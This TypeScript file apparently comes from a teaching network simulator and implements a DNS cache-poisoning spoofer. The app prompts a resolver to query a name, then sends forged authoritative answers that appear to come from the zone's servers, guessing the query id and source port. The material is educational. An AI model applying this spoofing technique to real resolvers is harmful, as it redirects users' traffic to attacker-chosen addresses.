/**
 * Tries to have a resolver believe a lie, for lessons that show why ids and ports are not to be guessed
 * (RFC 5452): it asks the resolver for a name, and sends answers to the query that this leads to, as if
 * they came from the zone's own servers. What it cannot know, id and port of that query, it guesses.
 */
import {
  type Ipv4,
  MAC_BROADCAST,
  type Mac,
  parseIpv4,
  sameNetwork,
} from '../../core/addresses.ts';
import { type Duration, MILLISECOND, SECOND } from '../../core/instant.ts';
import { nextBelow } from '../../core/rng.ts';
import { ARP_REPLY, ARP_REQUEST } from '../../protocols/arp/frame.ts';
import { udpFrame } from '../../protocols/dhcp/frame.ts';
import { CLASS_IN, DNS_PORT } from '../../protocols/dns/codes.ts';
import { encodeMessage, queryHeader } from '../../protocols/dns/message.ts';
import { type DomainName, parseName, ROOT } from '../../protocols/dns/name.ts';
import { RECORD_TYPES, recordOf } from '../../protocols/dns/record.ts';
import '../../protocols/dns/resolver-events.ts';
import { decodeRouteMessage, encodeRouteMessage } from '../../sockets/kinds/route/message.ts';
import { type ArpCard, openCard, receiveArp, sendArp } from '../arp/card.ts';
import type { AppEnv, AppEvent, AppKind } from '../kind.ts';
import { call, messages } from '../non-blocking.ts';

type Range = readonly [least: number, most: number];

export interface SpooferArgs {
  readonly resolver: string;
  /** What it asks for, and the address that it wants to be believed. */
  readonly name: string;
  readonly address: string;
  /** Servers of the zone, whose addresses its answers bear. */
  readonly as: readonly string[];
  /** What it takes the query's id and port to be among; default: all there are. */
  readonly ids?: Range;
  readonly ports?: Range;
  /** So many rounds of an answer from each server; default 100, 5 ms apart. */
  readonly rounds?: number;
  readonly every?: Duration;
  readonly ttl?: number;
}

interface SpooferState {
  readonly resolver: Ipv4;
  readonly name: DomainName;
  readonly address: Ipv4;
  readonly as: readonly Ipv4[];
  readonly ids: Range;
  readonly ports: Range;
  readonly every: Duration;
  readonly ttl: number;
  left: number;
  card: ArpCard;
  /** Who carries frames to the resolver, and its hardware address (0: not known yet). */
  hop: Ipv4;
  mac: Mac;
}

const NO_CARD: ArpCard = { frames: -1, routes: -1, mac: 0, address: 0, prefixLength: 0 };

export const dnsSpoofer: AppKind<SpooferState, SpooferArgs> = {
  id: 'dns.spoofer',
  needs: () => ['dgram', 'packet', 'route'],
  hears: { sockets: true },
  init: ({ resolver, name, address, as, ids, ports, rounds = 100, every, ttl = 3600 }) => ({
    resolver: parseIpv4(resolver) ?? 0,
    name: parseName(name) ?? ROOT,
    address: parseIpv4(address) ?? 0,
    as: as.flatMap((text) => parseIpv4(text) ?? []),
    ids: ids ?? [0, 0xffff],
    ports: ports ?? [1024, 0xffff],
    every: every ?? 5 * MILLISECOND,
    ...{ ttl, left: rounds, card: NO_CARD, hop: 0, mac: 0 },
  }),
  step(state: SpooferState, event: AppEvent, env: AppEnv): void {
    if (event.type === 'start') start(state, env);
    else if (event.type === 'timer') {
      if (state.mac === 0) askForHop(state, env);
      else forge(state, env);
    } else if (event.type === 'socket' && event.fd === state.card.frames) hearHop(state, env);
  },
};

function start(state: SpooferState, env: AppEnv): void {
  state.card = openCard(env, ARP_REQUEST.etherType);
  const { address, prefixLength, routes: fd } = state.card;
  call(env, { name: 'send', fd, data: encodeRouteMessage({ type: 'list' }) });
  const gateway = messages(fd, env)
    .flatMap((data) => decodeRouteMessage(data) ?? [])
    .find((each) => each.type === 'route' && each.prefixLength === 0)?.gateway;
  const beside = sameNetwork(address, state.resolver, prefixLength);
  state.hop = beside ? state.resolver : (gateway ?? 0);
  askForHop(state, env);
}

function askForHop({ card, hop }: SpooferState, env: AppEnv): void {
  const { mac: senderMac, address: senderIp } = card;
  const { operation } = ARP_REQUEST;
  sendArp(
    card,
    MAC_BROADCAST,
    { operation, senderMac, senderIp, targetMac: 0, targetIp: hop },
    env,
  );
  env.startTimer('next', SECOND);
}

function hearHop(state: SpooferState, env: AppEnv): void {
  for (const { operation, senderIp, senderMac } of receiveArp(state.card, env)) {
    if (state.mac !== 0 || operation !== ARP_REPLY.operation || senderIp !== state.hop) continue;
    state.mac = senderMac;
    provoke(state, env);
    env.startTimer('next', state.every);
  }
}

const questionFor = (name: DomainName) => ({ name, type: RECORD_TYPES.A.number, class: CLASS_IN });

/** The resolver will believe an answer only to a query of its own, so there has to be one. */
function provoke({ resolver: server, name }: SpooferState, env: AppEnv): void {
  const { value: fd } = call(env, { name: 'socket', type: 'dgram', nonBlocking: true });
  const id = nextBelow(env.rng, 0x10000);
  const data = encodeMessage({
    ...queryHeader(id, true),
    questions: [questionFor(name)],
    ...{ answers: [], authorities: [], additionals: [] },
  });
  env.say(
    'dns.query.sent',
    { process: env.pid, messageId: id, name, type: 'A', server, attempt: 1, over: 'UDP' },
    { name: 'sendto', fd, data, address: server, port: DNS_PORT },
  );
}

function forge(state: SpooferState, env: AppEnv): void {
  for (const server of state.as) forgeFrom(state, server, env);
  state.left--;
  if (state.left > 0) env.startTimer('next', state.every);
  else env.exit(0);
}

function forgeFrom(state: SpooferState, server: Ipv4, env: AppEnv): void {
  const { card, mac, resolver, name, address, ids, ports, ttl } = state;
  const id = guess(ids, env);
  const port = guess(ports, env);
  const message = encodeMessage({
    ...queryHeader(id, false),
    ...{ response: true, authoritative: true, questions: [questionFor(name)] },
    answers: [recordOf(name, ttl, 'A', { address })],
    ...{ authorities: [], additionals: [] },
  });
  const data = udpFrame({
    ...{ from: card.mac, to: mac, src: server, dst: resolver },
    ...{ srcPort: DNS_PORT, dstPort: port, ttl: 64, data: message },
  });
  env.say(
    'dns.forged',
    { process: env.pid, messageId: id, name, server, peer: resolver, port },
    { name: 'sendto', fd: card.frames, data, address: 0, port: 0 },
  );
}

const guess = ([least, most]: Range, env: AppEnv): number =>
  least + nextBelow(env.rng, Math.max(1, most - least + 1));
